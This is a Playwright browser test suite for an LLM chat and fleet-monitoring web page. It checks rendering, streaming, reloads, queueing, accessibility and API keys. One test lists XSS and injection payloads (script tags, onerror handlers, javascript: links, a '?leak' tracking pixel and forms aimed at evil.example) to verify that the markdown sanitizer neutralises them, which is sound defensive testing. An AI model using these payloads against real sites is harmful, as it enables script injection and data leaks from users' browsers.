"""The web page in a real browser: chat, images, hostile answers, the live view while a worker dies, keys, and people
who use a keyboard, a screen reader or a small screen."""

import base64
import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, Route, expect

from tests.browser.page import WebPage, chat_page, kept, web_page
from tests.support.batches import chat_line, submit
from tests.support.eventually import wait_until
from tests.support.fleet import Fleet
from tests.support.pictures import HELD_OUT, png, question

LONG = "[[tokens 4000]]"
DARK = "rgb(26, 24, 21)"


@pytest.fixture(scope="module")
def opened(browser: Browser, shown: Fleet) -> Iterator[WebPage]:
    with web_page(browser, shown) as opened:
        yield opened


@pytest.fixture
def page(opened: WebPage) -> Iterator[WebPage]:
    with chat_page(opened) as chat:
        yield chat


def test_a_model_chosen_at_once_stays_chosen(browser: Browser, shown: Fleet) -> None:
    with web_page(browser, shown) as page:
        page.tab.add_init_script("""
            new MutationObserver((_, observer) => {
                const option = document.querySelector("option[value=sim]");
                if (!option) return;
                observer.disconnect();
                option.parentElement.value = "sim";
                option.parentElement.dispatchEvent(new Event("change", { bubbles: true }));
            }).observe(document, { childList: true, subtree: true });
        """)
        page.open()
        expect(page.tab.get_by_text("of 8 slots in use")).to_be_visible()
        expect(page.tab.get_by_label("Model")).to_have_value("sim")


def test_an_answer_is_markdown(page: WebPage) -> None:
    words = " ".join(["tree"] * 50)
    page.choose("quick")
    answer = page.ask(f"[[say # Title\n\n{words}\n\n* **bold** `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n]]")
    expect(answer.get_by_role("heading", name="Title")).to_be_visible()
    expect(answer.get_by_role("cell", name="2")).to_be_visible()
    expect(answer.locator("li strong")).to_have_text("bold")
    expect(
        answer.get_by_text(re.compile(r"quick · first token \d.* · \d+\.\d tokens/s · \d+ \+ \d+ tokens"))
    ).to_be_visible()
    expect(page.tab.get_by_role("button", name="Send")).to_be_visible()


def test_code_is_coloured_and_formulas_are_drawn(page: WebPage) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    code = "def half(x):\n    return x / 2"
    said = f"```python\n{code}\n```\n\nIt costs $5 or $6, and $a^2$.\n\n$$\\frac{{1}}{{2}}$$\n\n\\(\\undefined\\)"
    page.choose("quick")
    answer = page.ask(f"[[say {said}]]")
    expect(answer.locator(".hljs-keyword").first).to_have_text("def")
    answer.get_by_role("button", name="Copy code").click()
    page.tab.wait_for_function("code => navigator.clipboard.readText().then((text) => text === code)", arg=code)
    expect(answer.locator("math")).to_have_count(2)
    expect(answer.locator("math mfrac")).to_have_count(1)
    expect(answer.get_by_text("It costs $5 or $6, and")).to_be_visible()
    expect(answer.get_by_text("\\undefined")).to_be_visible()


def test_only_blocks_that_change_are_drawn_again(page: WebPage) -> None:
    same = page.tab.evaluate("""async () => {
        const { update } = await import("./web/markdown/markdown.js");
        const box = document.createElement("div");
        const keys = update(box, [], "# A\\n\\ntext\\n\\nmo");
        const before = [...box.children];
        update(box, keys, "# A\\n\\ntext\\n\\nmore");
        return [...box.children].map((child, at) => child === before[at]);
    }""")
    assert same == [True, True, False]


def test_the_end_of_a_text_is_shown_with_its_figures(page: WebPage) -> None:
    shown = page.tab.evaluate("""async () => {
        const { html, render } = await import("./web/vendor/htm-preact-3.1.1.js");
        const { Message } = await import("./web/chat/message.js");
        const box = document.createElement("div");
        const whole = { finish: "stop", stats: { promptTokens: 1, tokens: 2 } };
        return [["one", {}], ["one two", {}], ["one two three", whole]].map(([text, fields]) => {
            const message = { id: "1", role: "assistant", model: "sim", text, reasoning: text, ...fields };
            render(html`<${Message} message=${message} live=${true} all=${["1"]} />`, box);
            return [...box.querySelectorAll(".markdown, .figures")].map((part) => part.textContent.trim());
        });
    }""")
    # While it grows, it is drawn from time to time.
    assert shown == [["one", "one", "sim"], ["one", "one", "sim"], ["one two three"] * 2 + ["sim · 1 + 2 tokens"]]


def reload_in_the_middle(page: WebPage) -> None:
    """Reload the page once the browser has kept that the service makes the answer."""
    wait_until(lambda: '"seen":' in kept(page.tab), "the answer to be kept")
    page.tab.reload()


def test_an_answer_goes_on_while_the_page_is_closed(page: WebPage, shown: Fleet) -> None:
    tab = page.tab
    answer = page.ask("[[tokens 120]]")
    expect(answer.locator("p").first).to_have_text(re.compile(r"(\w+ ){20}"))
    reload_in_the_middle(page)
    expect(answer.get_by_text("+ 120 tokens")).to_be_visible()
    again = page.ask("[[tokens 120]]")
    expect(again.get_by_text("+ 120 tokens")).to_be_visible()
    # Not the inner text, which what is not on the screen does not always have.
    one, other = (place.locator(".markdown").text_content() or "" for place in (answer, again))
    assert len(one.split()) == len(other.split())

    def deleted() -> list[int]:
        tab.evaluate("0")  # in which the browser reports its requests
        urls = [one.url for one in page.requests if one.method == "DELETE"]
        return [shown.status(f"/v1/responses/{url.rpartition('/')[2]}") for url in urls]

    shown.until(lambda: deleted() == [404, 404], "the service to keep no answer that the page has")


def test_an_answer_goes_on_after_the_service_could_not_be_asked_for_it(page: WebPage) -> None:
    answer = page.ask("[[tokens 60]]")
    expect(answer.locator("p").first).to_have_text(re.compile(r"(\w+ ){5}"))
    page.expected = (503,)
    gone = {"error": {"message": "The store can't be reached.", "code": "store_unavailable"}}
    page.tab.route("**/v1/responses/*", lambda route: route.fulfill(status=503, json=gone), times=1)
    reload_in_the_middle(page)
    expect(answer.get_by_text("+ 60 tokens")).to_be_visible()


def test_an_answer_that_is_too_large_to_be_kept_ends_with_the_page(page: WebPage) -> None:
    def refuse(route: Route) -> None:
        if "background" in (route.request.post_data_json or ()):
            route.fulfill(status=413, json={"error": {"message": "It is too large."}})
        else:
            route.continue_()

    page.expected = (413,)
    page.tab.route("**/v1/responses", refuse)
    answer = page.ask("[[tokens 4000]]")
    expect(answer.locator("p").first).to_have_text(re.compile(r"(\w+ ){5}"))
    reload_in_the_middle(page)
    expect(answer.get_by_role("alert")).to_have_text("The page was closed before the answer was complete.")


def test_an_answer_streams_and_stop_frees_the_slot(page: WebPage) -> None:
    expect(page.tab.get_by_text("0 of 8 slots in use")).to_be_visible()
    answer = page.ask(LONG)
    expect(page.tab.get_by_text("1 of 8 slots in use")).to_be_visible()
    expect(answer.locator("p").first).to_have_text(re.compile(r"\w+ \w+"))
    page.tab.get_by_role("button", name="Stop").click()
    expect(answer.get_by_text(re.compile(r"stopped, slot freed after \d"))).to_be_visible()
    expect(page.tab.get_by_text("0 of 8 slots in use")).to_be_visible()


def test_a_waiting_request_shows_its_place(page: WebPage, browser: Browser, shown: Fleet) -> None:
    page.choose("narrow")
    page.ask(LONG)
    expect(page.tab.get_by_text("1 of 1 slots in use")).to_be_visible()
    with web_page(browser, shown) as second:
        second.open()
        second.choose("narrow")
        answer = second.ask("[[tokens 3]]")
        expect(answer.get_by_role("status")).to_have_text(re.compile("Next in the queue"))
        page.tab.get_by_role("button", name="Stop").click()
        expect(answer.get_by_text("first token")).to_be_visible()


def test_settings_reach_the_service_and_reasoning_is_folded(page: WebPage) -> None:
    tab = page.tab
    settings = tab.get_by_role("button", name="Settings", exact=True)
    settings.click()
    expect(tab.get_by_label("Max tokens")).to_have_value("1024")
    tab.get_by_label("Reasoning effort").select_option("low")
    tab.keyboard.press("Escape")
    page.set(System_prompt="Be brief.", Temperature="0.5", Max_tokens="60", Seed="7", JSON_schema='{"type": "object"')
    tab.get_by_label("Message", exact=True).fill("hello")
    tab.get_by_role("button", name="Send").click()
    expect(tab.get_by_role("alert")).to_contain_text("The JSON schema")
    expect(tab.get_by_label("Message", exact=True)).to_have_value("hello")
    page.set(JSON_schema='{"type": "object"}')
    answer = page.ask('[[say <think>Two and two.</think>{"a": 4}]]')
    expect(answer.get_by_text('{"a": 4}')).to_be_visible()
    expect(answer.get_by_text("Two and two.")).to_be_hidden()
    answer.get_by_text(re.compile(r"Reasoning for \d+ s")).click()
    expect(answer.get_by_text("Two and two.")).to_be_visible()
    sent: list[dict[str, Any]] = [one.post_data_json or {} for one in page.requests if one.method == "POST"]
    assert len(sent) == 1
    body = {name: value for name, value in sent[0].items() if name not in ("background", "store")}
    assert (body["instructions"], body["input"][0]["role"], body["reasoning"]) == (
        "Be brief.",
        "user",
        {"effort": "low"},
    )
    assert (body["temperature"], body["max_output_tokens"], body["seed"]) == (0.5, 60, 7)
    assert body["text"]["format"]["schema"] == {"type": "object"}
    answer.get_by_role("button", name="More").click()
    tab.get_by_role("menuitem", name="Copy as curl").click()
    command = tab.get_by_role("textbox", name="Request").input_value()
    assert command.startswith(f"curl -N '{page.base}v1/responses'")
    assert json.loads(command.partition("-d '")[2].removesuffix("'")) == body
    tab.keyboard.press("Escape")
    answer.get_by_role("button", name="More").click()
    tab.get_by_role("menuitem", name="Copy as Python").click()
    program = tab.get_by_role("textbox", name="Request").input_value()
    compile(program, "snippet", "exec")
    assert "temperature=0.5" in program


def test_tool_calls_are_shown(page: WebPage) -> None:
    page.set(Tools='[{"type": "function", "function": {"name": "weather", "parameters": {}}}]')
    call = '<tool_call>{"name": "weather", "arguments": {"city": "Oslo"}}</tool_call>'
    answer = page.ask(f"[[say {call}]]")
    expect(answer.get_by_text("weather", exact=True)).to_be_visible()
    expect(answer.get_by_text("Oslo")).to_be_visible()


KEEP = """([settings, conversations]) => new Promise((resolve) => {
    localStorage.setItem("vinoqueue.settings", settings);
    const asked = indexedDB.open("vinoqueue");
    asked.onsuccess = () => {
        const writing = asked.result.transaction("conversations", "readwrite");
        for (const one of conversations) writing.objectStore("conversations").put(one);
        writing.oncomplete = resolve;
    };
})"""


def test_what_the_browser_kept_does_not_break_the_page(page: WebPage) -> None:
    tab = page.tab
    question = {"id": "1", "role": "user", "text": "hello", "parent": ""}
    older = {"id": "older", "title": "Older", "updated": 1, "messages": {"1": question}, "shown": {"": "1"}, "next": 2}
    damaged: list[dict[str, Any]] = [
        {"id": "a"},
        {**older, "id": "b", "title": {}},
        {**older, "id": "c", "messages": None},
        {**older, "id": "d", "messages": {"1": {"id": "1", "parent": ""}}},
        {**older, "id": "e", "messages": {"1": {**question, "parent": "1"}}, "shown": {"": "1", "1": "1"}},
        {**older, "id": "f", "shown": {"": "7"}},
    ]
    tab.evaluate(KEEP, ['{"system": null, "schema": 7, "temperature": {}, "seed": [1]}', [older, *damaged]])
    tab.reload()
    conversations = tab.get_by_role("navigation", name="Conversations")
    expect(conversations.get_by_role("listitem")).to_have_count(4)  # without what is damaged in b, d and f
    for is_new in (False, True):
        if is_new:
            tab.get_by_role("button", name="New conversation").click()
        page.choose("sim")
        expect(page.ask("[[say fine]]").get_by_text("fine", exact=True)).to_be_visible()


def test_branches_and_conversations_survive_a_reload(page: WebPage, shown: Fleet) -> None:
    tab = page.tab
    page.choose("quick")
    answer = page.ask("[[say first answer]]")
    expect(answer.get_by_text("first answer")).to_be_visible()
    answer.get_by_role("button", name="Regenerate").click()
    expect(tab.get_by_label("Branch 2 of 2")).to_be_visible()
    expect(answer.get_by_text("first answer")).to_be_visible()
    tab.get_by_role("button", name="Edit").click()
    tab.get_by_label("Edit the message").fill("[[say second answer]]")
    tab.get_by_role("button", name="Send as a new branch").click()
    expect(answer.get_by_text("second answer")).to_be_visible()
    tab.get_by_role("button", name="New conversation").click()
    expect(tab.get_by_text("Messages stay in this browser")).to_be_visible()
    page.ask("[[say other talk]]")
    tab.get_by_role("button", name="[[say first answer]]", exact=True).click()
    expect(answer.get_by_text("second answer")).to_be_visible()
    shown.until(
        lambda: all(f'"text":"{text}"' in kept(tab) for text in ("second answer", "other talk")),
        "the conversations to be kept",
    )
    tab.reload()
    tab.get_by_role("button", name="[[say first answer]]", exact=True).click()
    expect(answer.get_by_text("second answer")).to_be_visible()
    tab.get_by_role("button", name="Previous branch").click()
    expect(answer.get_by_text("first answer")).to_be_visible()


DROP = """([name, base64]) => {
    const bytes = Uint8Array.from(atob(base64), (sign) => sign.charCodeAt(0));
    const data = new DataTransfer();
    data.items.add(new File([bytes], "picture.png", { type: "image/png" }));
    const box = document.querySelector(".composer textarea");
    box.dispatchEvent(name === "paste"
        ? new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true })
        : new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
}"""


@pytest.mark.parametrize(("way", "seed"), [("button", 9), ("paste", 18), ("drop", 22)])
def test_the_model_sees_an_image(page: WebPage, way: str, seed: int) -> None:
    drawn, asked = question(HELD_OUT + seed)
    file = png(drawn.pixels(224, 224))
    tab = page.tab
    expect(tab.get_by_role("button", name="Add text files")).to_be_visible()
    page.choose("shapes")
    page.set(Temperature="0")
    if way == "button":
        tab.get_by_label("Files to attach").set_input_files(
            {"name": "picture.png", "mimeType": "image/png", "buffer": file}
        )
    else:
        tab.evaluate(DROP, [way, base64.b64encode(file).decode()])
    expect(tab.get_by_alt_text("Image 1 to send")).to_be_visible()
    answer = page.ask(asked.text)
    expect(answer.locator(".markdown")).to_have_text(asked.answer)
    expect(tab.get_by_alt_text("Image 1", exact=True)).to_be_visible()


HOSTILE = (
    '<img src=x onerror="document.title=`owned`"><script>document.title=`owned`</script>',
    '<svg onload="document.title=`owned`"><style>@import "http://evil.example/s.css";</style></svg>',
    "[click](javascript:document.title='owned') <javascript:alert(1)> [data](data:text/html,<script>1</script>)",
    "![track](http://evil.example/pixel.png?leak) ![ref][r]\n\n[r]: //evil.example/other.png",
    "![own](/metrics?image) [own](/v1/fleet) ![svg](data:image/svg+xml;base64,PHN2Zy8+)",
    '<iframe src="http://evil.example/"></iframe><link rel=stylesheet href=http://evil.example/c.css>',
    '<form action="http://evil.example/"><input name=q><button>Send</button></form><base href="http://evil.example/">',
    '<a href="http://evil.example" id="page" style="position:fixed;inset:0" class="stop">x</a>',
    "> " * 600 + "deep",
    "- " * 600 + "deep",
    "[" * 3000 + "x" + "](y)" * 3000,
    "**a" * 3000,
    "| a |\n|---|\n| <img src=http://evil.example/t.png onerror=alert(1)> `<b>` |",
    "```html\n<img src=http://evil.example/c.png>\n```",
    "$${\\href{javascript:alert(1)}{x}}$$ <math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
)


def test_hostile_answers_do_nothing(page: WebPage) -> None:
    tab = page.tab
    tab.evaluate(
        "window.violations = [];"
        "addEventListener('securitypolicyviolation', (event) => violations.push(event.blockedURI))"
    )
    elements = {
        tag
        for text in HOSTILE
        for tag in tab.evaluate(
            """async (text) => {
                const { update } = await import("./web/markdown/markdown.js");
                const box = document.createElement("div");
                document.body.append(box);
                let keys = [];
                for (let end = 1; end < text.length; end += Math.ceil(text.length / 20)) {
                    keys = update(box, keys, text.slice(0, end));
                }
                update(box, keys, text);
                const found = [...box.querySelectorAll("*")];
                const known = /^(code-block|code-head|quiet|hljs-.*)$/;
                const own = ({ name, value }) => name === "class" && known.test(value);
                const names = ({ attributes }) =>
                    [...attributes].filter((one) => !own(one)).map(({ name }) => "." + name).join("");
                const tags = found.map((one) => one.localName + names(one));
                const links = found.flatMap((one) => [one.getAttribute("href"), one.getAttribute("src")]);
                box.remove();
                return [...tags, ...links.filter((one) => one !== null)];
            }""",
            text,
        )
    }
    assert {"p", "code", "td"} <= elements
    assert not [
        one for one in elements if re.search(r"(?i)^(img|script|style|svg|iframe|form|input|link|base|mglyph)\b", one)
    ]
    assert not [one for one in elements if re.search(r"(?i)javascript:|^data:|^/|\.on|\.style|\.id|\.class", one)]
    # The same, streamed by a model.
    said = "\n\n".join(text for text in HOSTILE if "]]" not in text and len(text) < 300)
    page.choose("quick")
    expect(page.ask(f"[[say {said}]]").get_by_text(re.compile(r"\+ \d+ tokens"))).to_be_visible()
    assert tab.title() == "Vinoqueue"
    assert tab.evaluate("window.violations") == []


COUNT_FLIGHTS = """() => {
    window.flights = [];
    const animate = Element.prototype.animate;
    Element.prototype.animate = function (...how) {
        flights.push(this.dataset.job);
        return animate.apply(this, how);
    };
}"""


def test_the_fleet_view_shows_where_requests_go_when_a_worker_dies(
    page: WebPage, browser: Browser, shown: Fleet
) -> None:
    with web_page(browser, shown) as live:
        live.open("live")
        card = live.tab.get_by_role("region", name="sim", exact=True)
        expect(card.get_by_role("row", name=re.compile("default"))).to_be_visible()
        expect(live.tab.get_by_text(re.compile("All is quiet: 5 workers are ready"))).to_be_visible()
        answer = page.ask("[[tokens 300]]")
        stream = live.tab.locator("[data-job]")
        expect(stream).to_have_count(1)
        expect(live.tab.get_by_text("1 request runs; none waits.")).to_be_visible()
        victim, job = stream.get_attribute("data-worker") or "", stream.get_attribute("data-job") or ""
        worker = live.tab.get_by_role("article", name=victim, exact=True)
        expect(worker.get_by_role("img", name="1 of 4 slots in use")).to_be_visible()
        expect(worker.get_by_text("simulated engine")).to_be_visible()
        live.tab.evaluate(COUNT_FLIGHTS)
        pid = next(one["pid"] for one in shown.workers() if one["id"] == victim)
        next(process for process in shown.processes if process.popen.pid == pid).kill()
        expect(worker).to_contain_text(re.compile("silent|gone"))
        expect(live.tab.get_by_role("status")).to_contain_text(f"Worker {victim} is")
        expect(live.tab.get_by_text(f"{victim} no longer responds.")).to_be_visible()
        # Its dot flies to the other worker.
        flown = live.tab.locator(f"[data-job='{job}']:not([data-worker='{victim}']).moved")
        expect(flown).to_be_visible()
        assert live.tab.evaluate("window.flights") == [job]
        request = job[:8]
        moved = live.tab.locator(".moves li", has_text=f"{request} left {victim}").filter(has_text="continues on")
        expect(moved).to_contain_text("because the worker is gone")
        # The stream goes on.
        expect(answer.get_by_text("continued on another worker, because its worker was gone")).to_be_visible()
        expect(answer.get_by_text("tokens/s")).to_be_visible()
        expect(answer.get_by_text("+ 300 tokens")).to_be_visible()
        expect(card.get_by_role("img", name=re.compile(r"^Tokens.s over \d+ seconds, now"))).to_be_visible()
        page.ask("[[exhaust at 3]]")
        expect(card.get_by_role("img", name=re.compile(r"^Errors over \d+ seconds, in all 1$"))).to_be_visible()
        with shown.client() as client:
            submit(client, [chat_line(f"line-{number}") for number in range(20)])
        expect(live.tab.get_by_role("region", name="Batches")).to_contain_text(re.compile("completed.* 20 of 20 lines"))
        assert sum(one.url.endswith("v1/fleet/events") for one in live.requests) == 1


def violations(tab: Page) -> list[str]:
    """What axe finds."""
    return [
        f"{one['id']}: {node['html']}"
        for one in Axe().run(tab, options={"resultTypes": ["violations"]}).response["violations"]
        for node in one["nodes"]
    ]


def test_axe_finds_nothing_on_a_small_screen_in_either_theme(browser: Browser, shown: Fleet) -> None:
    with web_page(browser, shown, width=360, height=740) as page:
        tab = page.tab
        page.open()
        page.choose("quick")
        answer = page.ask("[[say # Title\n\ntext `code` [link](http://example.org)\n\n```\n" + "long " * 60 + "\n```]]")
        expect(answer.get_by_text("tokens/s")).to_be_visible()
        for view, place in (("Chat", ".composer"), ("Fleet", ".chart svg")):
            tab.get_by_role("button", name="Open the side bar").click()
            tab.get_by_role("link", name=view).click()
            expect(tab.locator(place).first).to_be_visible()
            for colours in ("light", "dark"):
                tab.get_by_role("button", name="Open the side bar").click()
                tab.get_by_label("Colours").select_option(colours)
                assert (tab.evaluate("getComputedStyle(document.body).backgroundColor") == DARK) == (colours == "dark")
                assert violations(tab) == []
                tab.keyboard.press("Escape")
                assert violations(tab) == []
                assert tab.evaluate("document.documentElement.scrollWidth") <= 360
        tab.get_by_role("button", name="Open the side bar").click()
        tab.get_by_role("link", name="Chat").click()
        tab.get_by_role("button", name="Settings", exact=True).click()
        assert violations(tab) == []
    with web_page(browser, shown, dark=True) as page:
        page.open()
        assert page.tab.evaluate("getComputedStyle(document.body).backgroundColor") == DARK


def test_keys(browser: Browser, shown: Fleet) -> None:
    """The last test: from its first key on, the service needs one."""
    plain, admin = shown.key("create"), shown.key("create", "--scope", "admin")
    shown.until(lambda: shown.status("/v1/models") == 401, "the API to need a key")
    with web_page(browser, shown) as page:
        page.expected = (401, 403)
        page.open()
        expect(page.tab.get_by_role("alert")).to_contain_text("needs an API key")
        field = page.tab.get_by_label("API key")
        field.fill("wrong")
        field.press("Enter")
        expect(page.tab.get_by_role("alert")).to_contain_text("Incorrect API key")
        field.fill(plain)
        field.press("Enter")
        page.choose("sim")
        expect(page.ask("[[say hello]]").get_by_text("hello")).to_be_visible()
        page.tab.get_by_role("link", name="Fleet").click()
        expect(page.tab.get_by_role("alert")).to_contain_text("Missing scopes: admin")
        field.fill(admin)
        field.press("Enter")
        expect(page.tab.locator(".worker").first).to_be_visible()
        assert page.tab.evaluate("sessionStorage.getItem('vinoqueue.key')") == admin
        assert admin not in page.tab.evaluate("JSON.stringify({...localStorage})")
        assert not [one.url for one in page.requests if admin in one.url or plain in one.url]
        page.tab.reload()
        expect(page.tab.locator(".worker").first).to_be_visible()
